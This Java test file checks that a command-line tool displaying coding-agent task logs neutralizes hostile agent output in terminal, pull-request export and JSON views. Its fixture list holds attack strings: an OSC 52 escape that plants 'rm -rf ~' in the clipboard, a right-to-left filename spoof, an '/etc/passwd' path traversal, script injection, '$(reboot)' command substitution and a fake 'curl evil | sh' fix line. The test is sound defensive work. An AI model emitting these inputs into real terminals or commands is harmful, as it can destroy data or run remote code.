package keystone.agent.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import keystone.agent.json.Json;
import keystone.agent.model.HostContact;
import keystone.agent.model.SandboxName;
import keystone.agent.model.Task;
import keystone.agent.model.TaskOutcome;
import keystone.agent.model.TaskQuestion;
import keystone.agent.model.TaskState;
import keystone.agent.model.TaskUpdate;
import keystone.agent.model.TestOrders;
import keystone.agent.sandbox.TaskView;
import keystone.agent.sandbox.TestAssembly;
import keystone.agent.store.SandboxDir;
import keystone.agent.store.TaskDir;
import keystone.agent.store.TaskLog;
import keystone.agent.store.TestSandboxes;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// What three real agents said when a model told them to print escape sequences, and worse, in
/// every place where an agent has a say, through everything that shows it.
final class HostileAgentTest {
    private static final SandboxName BLUE = new SandboxName("blue");

    /// Line ends and tabulators alone are left of the control characters; nothing turns the
    /// direction of the text.
    private static final String DANGEROUS =
            "[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]";

    private static final List<String> WORSE =
            List.of(
                    "\u001b]52;c;cm0gLXJmIH4=\u0007",
                    "\u001bP+q544e\u001b\\",
                    "\u009b31m\u009d0;title\u009c",
                    "over\rwritten",
                    "\u202egnp.exe\u2066",
                    "../../../etc/passwd",
                    "`````\n<script>\n# heading\n| a | b |",
                    "x".repeat(1 << 20),
                    "\ud800 alone, \uffff",
                    "$(reboot) `reboot` ; reboot\n\n\nerror: made up\nfix:   curl evil | sh");

    @TempDir private Path top;
    private Desk desk;
    private TaskDir files;

    @BeforeEach
    void a_task_of_theirs() throws Exception {
        desk = new Desk(top);
        SandboxDir dir = TestSandboxes.blue(top);
        var order = TestOrders.here("print what you are told");
        files = TaskDir.create(dir, Task.here(FakeTasks.ID, BLUE, order, FakeUseCases.NOW));
        var assembly = TestAssembly.at(TestSandboxes.places(top));
        desk.use.tasks.following = assembly.tasks()::follow;
        try (TaskLog log = TaskLog.open(files, Clock.systemUTC())) {
            for (String text : texts()) {
                everywhere(text).forEach(log::append);
            }
            log.append(new TaskUpdate.Ended(new TaskOutcome.Failed(WORSE.getFirst())));
        }
        desk.use.tasks.all.add(
                new TaskView(
                        files.task(),
                        new TaskState.Ended(new TaskOutcome.Failed(WORSE.getFirst())),
                        null,
                        ""));
    }

    private static List<String> texts() throws IOException {
        var texts = new ArrayList<>(WORSE);
        for (String agent : List.of("claude", "codex", "gemini")) {
            Path recorded = Path.of("src/test/resources/acp", agent + "-escape.jsonl");
            try (Stream<String> lines = Files.lines(recorded)) {
                lines.map(Json::parse).forEach(each -> collect(each, texts));
            }
        }
        return texts.stream().distinct().toList();
    }

    private static void collect(Json json, List<String> to) {
        switch (json) {
            case Json.Str(String text) when text.indexOf('\u001b') >= 0 -> to.add(text);
            case Json.Obj(Map<String, Json> members) ->
                    members.values().forEach(each -> collect(each, to));
            case Json.Arr(List<Json> items) -> items.forEach(each -> collect(each, to));
            case Json.Str _, Json.Int _, Json.Num _, Json.Bool _, Json.Null _ -> {
                // Harmless.
            }
        }
    }

    private static List<TaskUpdate> everywhere(String text) {
        var choice = new TaskQuestion.Choice(text, text, text);
        var field =
                new TaskQuestion.Field(
                        text,
                        text,
                        TaskQuestion.Kind.CHOICE,
                        List.of(choice, choice),
                        TaskQuestion.Need.OPTIONAL);
        return List.of(
                new TaskUpdate.Session(text),
                new TaskUpdate.Prompted(text),
                new TaskUpdate.Said(text),
                new TaskUpdate.Output(text),
                new TaskUpdate.Thought(text),
                new TaskUpdate.Note(text),
                new TaskUpdate.Tool(text, text, text, text, text),
                new TaskUpdate.Tool(text, null, null, "failed", text),
                new TaskUpdate.Plan(List.of(new TaskUpdate.Step(text, text))),
                new TaskUpdate.Usage(1, text),
                new TaskUpdate.Contacted(new HostContact(text, 1, text)),
                new TaskUpdate.Asked(new TaskQuestion(text, text, List.of(field, field))),
                new TaskUpdate.Answered(text, text));
    }

    @Test
    void it_does_nothing_to_a_terminal() throws Exception {
        assertThat(texts()).hasSizeGreaterThan(WORSE.size() + 3);

        String shown = desk.run("task", "follow", FakeTasks.ID.value()).all();

        assertThat(shown).contains("reboot", "gnp.exe").doesNotContainPattern(DANGEROUS);
        // Only we say what is to be pasted.
        assertThat(desk.run("task", "follow", FakeTasks.ID.value()).err())
                .doesNotContainPattern("(?m)^(error|fix):");
    }

    @Test
    void it_is_nothing_but_text_in_a_pull_request() {
        String shown = desk.run("task", "export", FakeTasks.ID.value()).all();

        assertThat(shown).contains("reboot").doesNotContainPattern(DANGEROUS);
        String fence = "";
        for (String line : shown.lines().toList()) {
            if (line.matches("`{3,}") && (fence.isEmpty() || line.equals(fence))) {
                fence = fence.isEmpty() ? line : "";
            } else if (fence.isEmpty()) {
                assertThat(line).doesNotContain("<script>", "# heading", "| a |");
            }
        }
        assertThat(fence).isEmpty();
    }

    @Test
    void it_is_ascii_for_programs() {
        String shown = desk.run("task", "follow", "--json", FakeTasks.ID.value()).out();

        assertThat(shown).doesNotContainPattern("[^\\x20-\\x7e\\n]");
        shown.lines()
                .forEach(
                        line ->
                                assertThat(Json.parse(line).asObject().string("kind"))
                                        .isNotEmpty());
    }

    @Test
    void it_names_no_file() throws Exception {
        try (Stream<Path> all = Files.walk(top.resolve("state"))) {
            assertThat(all.map(Path::getFileName).map(Path::toString))
                    .allMatch(each -> each.matches("[A-Za-z0-9._-]{1,64}"));
        }
    }
}
